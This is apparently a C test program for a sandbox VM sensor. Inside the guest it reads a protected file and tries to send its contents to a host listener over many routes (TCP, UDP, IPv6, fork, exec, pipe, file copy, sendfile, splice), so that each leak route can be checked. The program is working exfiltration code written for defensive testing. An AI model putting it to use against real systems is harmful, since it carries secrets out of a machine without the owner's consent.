// Test program for the VM sensor: inside the sandbox guest, tries to send a
// protected file's content to the host by one route. Built static and put in
// the guest with `kanshi sandbox run --add`.
// Usage: exfil ROUTE SECRET HOST PORT [HOST6 PORT6] (copy: exfil copy SECRET HOST PORT COPY)
// Sends "ROUTE:<secret>" so the listener on the host knows which route leaked.
// Prints "ROUTE: <step> ok|<errno name>"; exits 0 unless the setup failed.
// Every network wait is bounded (2 s), so a dropped flow ends the program.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *route, *secret_path, *host, *host6;
static int port, port6;
static char payload[4200];
static size_t payload_len;

static void report(const char *step, long r) {
    if (r >= 0) printf("%s: %s ok\n", route, step);
    else printf("%s: %s %s\n", route, step, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    fflush(stdout);
}

static void read_secret(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) { perror("open secret"); exit(2); }
    int n = snprintf(payload, sizeof payload, "%s:", route);
    ssize_t got = read(fd, payload + n, sizeof payload - n - 1);
    close(fd);
    if (got < 0) { perror("read secret"); exit(2); }
    payload_len = n + got;
}

static struct sockaddr_in addr4(int p) {
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(p) };
    inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}

/// Connects with a bounded wait; returns the socket (or -1).
static int connect_to(int family, const char *h, int p) {
    int s = socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
    struct sockaddr_storage ss = {0};
    socklen_t len;
    if (family == AF_INET) {
        struct sockaddr_in *a = (struct sockaddr_in *)&ss;
        a->sin_family = AF_INET; a->sin_port = htons(p); inet_pton(AF_INET, h, &a->sin_addr); len = sizeof *a;
    } else {
        struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;
        a->sin6_family = AF_INET6; a->sin6_port = htons(p); inet_pton(AF_INET6, h, &a->sin6_addr); len = sizeof *a;
    }
    int r = connect(s, (struct sockaddr *)&ss, len);
    if (r < 0 && errno == EINPROGRESS) {
        struct pollfd pf = { .fd = s, .events = POLLOUT };
        if (poll(&pf, 1, 2000) == 1) {
            int err = 0; socklen_t el = sizeof err;
            getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
            r = err ? -1 : 0;
            errno = err;
        } else { r = -1; errno = ETIMEDOUT; }
    }
    report("connect", r);
    if (r < 0) { close(s); return -1; }
    int flags = fcntl(s, F_GETFL);
    fcntl(s, F_SETFL, flags & ~O_NONBLOCK);
    struct timeval tv = { .tv_sec = 2 };
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    return s;
}

static void tcp_send(void) {
    int s = connect_to(AF_INET, host, port);
    if (s < 0) return;
    report("send", send(s, payload, payload_len, 0));
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: exfil ROUTE SECRET HOST PORT [HOST6 PORT6]\n"); return 2; }
    route = argv[1]; secret_path = argv[2]; host = argv[3]; port = atoi(argv[4]);
    host6 = argc > 5 ? argv[5] : "fec0::2"; port6 = argc > 6 ? atoi(argv[6]) : port;
    if (!strcmp(route, "tcp") || !strcmp(route, "exec-tcp")) {
        read_secret(secret_path);
        tcp_send();
    } else if (!strcmp(route, "sendto")) {
        read_secret(secret_path);
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = addr4(port);
        report("sendto", sendto(s, payload, payload_len, 0, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(route, "sendmsg")) {
        read_secret(secret_path);
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = addr4(port);
        struct iovec iov = { payload, payload_len };
        struct msghdr m = { .msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1 };
        report("sendmsg", sendmsg(s, &m, 0));
    } else if (!strcmp(route, "udp")) {
        read_secret(secret_path);
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = addr4(port);
        report("connect", connect(s, (struct sockaddr *)&a, sizeof a));
        report("write", write(s, payload, payload_len));
    } else if (!strcmp(route, "ipv6")) {
        read_secret(secret_path);
        int s = connect_to(AF_INET6, host6, port6);
        if (s >= 0) { report("send", send(s, payload, payload_len, 0)); close(s); }
    } else if (!strcmp(route, "early")) {
        int s = connect_to(AF_INET, host, port);  // before the secret is read
        read_secret(secret_path);
        if (s >= 0) { report("write", write(s, payload, payload_len)); close(s); }
    } else if (!strcmp(route, "fork")) {
        read_secret(secret_path);
        pid_t c = fork();
        if (c == 0) { tcp_send(); _exit(0); }
        waitpid(c, NULL, 0);
    } else if (!strcmp(route, "exec")) {
        read_secret(secret_path);  // managed now; the exec'd image stays managed
        char *args[] = { argv[0], "exec-tcp", argv[2], argv[3], argv[4], NULL };
        execv("/proc/self/exe", args);
        report("execv", -1);
    } else if (!strcmp(route, "copy")) {
        // Writes the secret to the last argument: a later, separate process reads that copy and sends it.
        read_secret(secret_path);
        int fd = open(argv[argc - 1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        report("write-copy", write(fd, payload + strlen(route) + 1, payload_len - strlen(route) - 1));
        close(fd);
    } else if (!strcmp(route, "pipe")) {
        // A process started before the secret is read receives it through a pipe and sends it.
        int p[2];
        pipe(p);
        pid_t c = fork();
        if (c == 0) {
            close(p[1]);
            char buf[4200];
            ssize_t n = read(p[0], buf, sizeof buf);
            if (n > 0) { memcpy(payload, buf, n); payload_len = n; tcp_send(); }
            _exit(0);
        }
        close(p[0]);
        usleep(200000);
        read_secret(secret_path);
        report("pipe-write", write(p[1], payload, payload_len));
        close(p[1]);
        waitpid(c, NULL, 0);
    } else if (!strcmp(route, "sendfile")) {
        int s = connect_to(AF_INET, host, port);
        int fd = open(secret_path, O_RDONLY);
        if (s >= 0 && fd >= 0) {
            report("send-tag", send(s, "sendfile:", 9, 0));
            report("sendfile", sendfile(s, fd, NULL, 4096));
        }
    } else if (!strcmp(route, "splice")) {
        int s = connect_to(AF_INET, host, port);
        int fd = open(secret_path, O_RDONLY);
        int p[2];
        pipe(p);
        if (s >= 0 && fd >= 0) {
            report("send-tag", send(s, "splice:", 7, 0));
            report("splice-in", splice(fd, NULL, p[1], NULL, 4096, 0));
            report("splice-out", splice(p[0], NULL, s, NULL, 4096, 0));
        }
    } else {
        fprintf(stderr, "exfil: unknown route %s\n", route);
        return 2;
    }
    return 0;
}
